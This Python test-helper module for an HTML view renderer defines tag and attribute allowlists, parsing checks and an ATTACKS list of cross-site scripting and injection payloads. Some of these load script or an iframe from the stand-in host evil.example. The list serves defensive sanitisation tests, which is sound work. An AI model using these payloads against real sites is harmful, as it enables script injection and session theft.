"""What the tests of views share: attacks, and pages read as a browser reads them, and as a code-hosting site shows them."""

from __future__ import annotations

from dataclasses import dataclass
from html.parser import HTMLParser

import html5lib
import nh3

from astana_research import display

# What a view may hold. No element here runs, loads or links to anything.
ALLOWED = {"b", "bdi", "br", "caption", "details", "div", "li", "mark", "p", "summary", "sup", "table", "td", "th", "tr", "ul"}
ATTRIBUTES = {"align", "class", "colspan", "dir", "lang", "style", "title", "width"}
# GitHub's list of what stays in HTML (html-pipeline), as far as views go: no style, no class, no script.
HOSTED_TAGS = {"b", "bdo", "br", "caption", "code", "details", "div", "em", "h1", "h2", "h3", "i", "img", "ins", "kbd", "li", "mark", "ol",
               "p", "pre", "q", "s", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
               "tr", "ul"}  # fmt: skip
HOSTED_ATTRIBUTES = {"*": {"align", "colspan", "dir", "lang", "rowspan", "title", "valign", "width"}}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="position:fixed" onclick="alert(1)',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">الجولة</a>',
    "</td></tr></table><script>alert(1)</script>",
    "</mark></div><iframe src=//evil.example>",
    "</title><style>*{display:none}</style>",
    "<!-- --><b>",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;&#60;script&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{constructor.constructor('alert(1)')()}} $x$ \\(y\\)",
    "\u202e<script>\u2066",
    "\ud83d lone \udc00",
    "\x1b]0;title\x07\x9b31m",
]


class Reader(HTMLParser):
    """Reads a view as a browser does: its text, the text of the article in it, its elements and their attributes."""

    def __init__(self, page: str):
        super().__init__()
        self.text, self.article, self.tags, self.attributes, self.titles = "", "", [], set(), []
        self.open: list[tuple[str, dict]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.titles += [value for name, value in attrs if name == "title"]
        if tag != "br":
            self.open.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop()[0] == tag

    def handle_data(self, data):
        self.text += data
        within = any(tag == "div" and attributes.get("dir") == "rtl" for tag, attributes in self.open)
        if within and not any(tag == "sup" for tag, _ in self.open):
            self.article += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def safe(page: str) -> Reader:
    """The page as read, after it was seen to hold nothing but what views are made of."""
    found = Reader(page)
    assert set(found.tags) <= ALLOWED
    assert found.attributes <= ATTRIBUTES
    assert "<script" not in page.casefold()
    assert found.open == []
    page.encode("utf-8")  # so that a notebook can be written
    return found


def seen(text: str) -> str:
    """A text as a view shows it."""
    return display.printable(text)


@dataclass(frozen=True)
class Parsed:
    """A page as an HTML5 parser builds it: its elements with their attributes, its text, and its titles."""

    elements: frozenset[str]
    attributes: frozenset[str]
    text: str
    titles: tuple[str, ...]


def parsed(page: str) -> Parsed:
    """What a browser makes of a page, after it was seen to hold nothing but what views are made of."""
    tree = html5lib.parseFragment(page, namespaceHTMLElements=False)
    elements = [one for one in tree.iter() if one is not tree]
    names = {one.tag if isinstance(one.tag, str) else "comment" for one in elements}
    attributes = {name for one in elements for name in one.attrib}
    assert names <= ALLOWED | {"tbody"}, names
    assert attributes <= ATTRIBUTES, attributes
    titles = tuple(one.attrib["title"] for one in elements if "title" in one.attrib)
    return Parsed(frozenset(names), frozenset(attributes), "".join(tree.itertext()), titles)


def hosted(page: str) -> str:
    """A page as a code-hosting site shows it: without styles, classes and much else."""
    return nh3.clean(page, tags=HOSTED_TAGS, attributes=HOSTED_ATTRIBUTES, link_rel=None)
